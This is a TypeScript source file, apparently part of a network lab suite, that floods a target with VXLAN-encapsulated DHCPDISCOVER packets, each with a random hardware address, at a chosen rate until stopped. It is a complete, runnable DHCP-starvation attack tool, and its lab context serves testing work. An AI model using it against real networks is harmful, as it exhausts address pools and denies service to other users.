/**
 * DHCPDISCOVERs through VXLAN, each of another hardware address, until it is ended: `flood_main.ts TARGET RATE`, so many a
 * second at most. After each ten thousand it prints how many there were.
 */
import { parseIpv4 } from "../../../mod/addr/ipv4.ts";
import { broadcastMac } from "../../../mod/addr/mac.ts";
import { UdpSocket } from "../../../mod/linux/udp_socket.ts";
import { encodeDhcp } from "../../../mod/wire/dhcpv4.ts";
import { udpFrame } from "../../lab/overlay_frames.ts";
import { sleep } from "../../lab/roles.ts";
import { parse } from "../../scenario/dhcp_text.ts";

const [target = "", rate = ""] = Deno.args;
const to = { address: parseIpv4(target), port: 4789 };
const mac = Uint8Array.of(2, 0x66, 0, 0, 0, 0);
const discover = encodeDhcp(parse("DHCPDISCOVER broadcast", { op: 1, xid: 1, chaddr: mac }));
const datagram = Uint8Array.fromHex(udpFrame(broadcastMac, mac, ["0.0.0.0", 68], ["255.255.255.255", 67], discover));
const ipv4 = 8 + 14;
const bootp = ipv4 + 20 + 8;
/** The frame's source and `chaddr`. */
const places = [8 + 6, bootp + 28];
datagram.fill(0, bootp - 2, bootp); // no UDP checksum (RFC 768)
const most = 64;
using socket = UdpSocket.open({ batch: most });
for (let sent = 0, startedAt = performance.now();; await sleep(1)) {
  const due = Math.min(sent + most, (performance.now() - startedAt) * Number(rate) / 1_000);
  for (; sent < due; sent++) {
    const random = crypto.getRandomValues(new Uint8Array(4));
    for (const place of places) datagram.set(random, place + 2);
    socket.add(datagram, to);
    if (sent > 0 && sent % 10_000 === 0) console.log(sent);
  }
}
